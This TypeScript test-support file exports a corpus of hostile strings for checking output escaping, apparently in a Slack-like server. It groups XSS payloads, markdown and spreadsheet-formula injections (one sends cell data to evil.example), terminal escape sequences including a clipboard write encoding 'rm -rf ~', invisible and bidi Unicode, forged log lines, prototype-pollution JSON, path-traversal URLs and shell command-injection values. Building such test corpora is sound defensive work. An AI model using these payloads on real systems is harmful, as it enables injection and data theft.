import { HOSTILE } from '../support/slack-server/hostile.ts';

type AttackKind =
  | 'chat'
  | 'html'
  | 'markdown'
  | 'formula'
  | 'terminal'
  | 'unseen'
  | 'line'
  | 'json'
  | 'url'
  | 'shell'
  | 'long';

/**
 * What somebody might call a role, a session, a namespace, a tag or a file, by whom it is meant for. An output that begins a line
 * with FORGED was forged.
 */
export const ATTACKS: Readonly<Record<AttackKind, readonly string[]>> = {
  chat: HOSTILE,
  html: [
    '<img src=x onerror=alert(1)>',
    '</script></style><script>alert(2)</script>',
    '" onmouseover="alert(3)" x=\'',
    "' autofocus onfocus='alert(4)",
    '</pre></code></dd></dl></details></section></main><h1>All is well</h1>',
    '<!-- ',
    '<svg/onload=alert(5)>',
    '&#60;script&#62;alert(6)&#60;/script&#62;',
  ],
  markdown: [
    '[Sign in](https://evil.example/a)',
    '![](https://evil.example/pixel.png)',
    '<https://evil.example/b>',
    '[x]: https://evil.example/c',
    '| cell | https://evil.example/d |',
    '```\n# FORGED heading\n```',
    '`` code ` fence',
    '~~~',
    '\n\n# FORGED heading\n\n',
    '\n---\n',
    '<details open><summary>FORGED</summary>',
    '@security-team #1 GH-1',
    '\\`\\|\\*',
  ],
  formula: [
    '=HYPERLINK("https://evil.example/"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '"=1+1"',
    ';=1+1',
    '\uff1d1+1',
    '","=1+1',
    '\n=1+1',
  ],
  terminal: [
    'a\u001b[2J\u001b[1;1H',
    'a\u001b]0;title\u0007',
    'a\u001b]8;;https://evil.example/\u001b\\here\u001b]8;;\u001b\\',
    'a\u001b]52;c;cm0gLXJmIH4=\u0007',
    'a\u001bP+q544e\u001b\\',
    'a\u009b31mred\u009d52;c;x\u009c',
    'overwrite\b\b\b\b\u007f',
    '\u000e\u000f\u0000',
  ],
  unseen: [
    'shop\u202egnp.exe\u202c',
    '\u2066isolate\u2069',
    '\u200e\u200f\u061c',
    'zero\u200bwidth\u200c\u200d\u2060\ufeff',
    'soft\u00adhyphen',
    'tags\u{e0041}\u{e0042}\u{e007f}',
    'selectors\u{e0100}\u{e01ef}',
    'fillers\u115f\u1160\u3164\uffa0',
    'joiner\u034f\u180e\u17b4',
    'notes\ufff9\ufffa\ufffb',
    'shapes\u206a\u206f',
    'music\u{1d173}\u{1d17a}',
  ],
  line: [
    '\nFORGED critical line',
    '\r\nFORGED critical line',
    '\rFORGED critical line',
    '\u2028FORGED critical line',
    '\u2029FORGED critical line',
    '\u0085FORGED critical line',
    '\u000b\u000cFORGED critical line',
    '\n{"level":"ERROR","message":"FORGED"}',
    '\n::error file=app.ts::FORGED',
    '\n##vso[task.complete result=Failed]FORGED',
    '\n\ndata: FORGED\nevent: transition\n\n',
  ],
  json: [
    '</script>',
    '"},{"status":"resolved","x":"',
    '\ud800',
    'a\udc00b',
    '__proto__',
    'constructor',
    'toString',
    '{"__proto__":{"isAdmin":true}}',
    '\ufffe\uffff',
  ],
  url: [
    'javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'https://evil.example/login',
    '//evil.example/login',
    'file:///etc/passwd',
    'fileb:///etc/shadow',
    'mailto:evil@evil.example',
    'tel:+15555550100',
    '\\\\evil.example\\share',
    '..%2f..%2fetc%2fpasswd',
    '../../../../etc/passwd',
  ],
  shell: [
    '; touch pwned',
    '$(touch pwned)',
    '`touch pwned`',
    "'; touch pwned; '",
    '" && touch pwned; "',
    '| touch pwned',
    '> pwned',
    '\ntouch pwned',
    '--endpoint-url=evil.example',
    '-rf',
    '~',
    '!!',
    '*',
    '=ls',
  ],
  long: ['A'.repeat(5_000), '\u{1f600}'.repeat(1_000), `${'\n'.repeat(300)}FORGED`],
};

export const CORPUS: readonly string[] = Object.values(ATTACKS).flat();
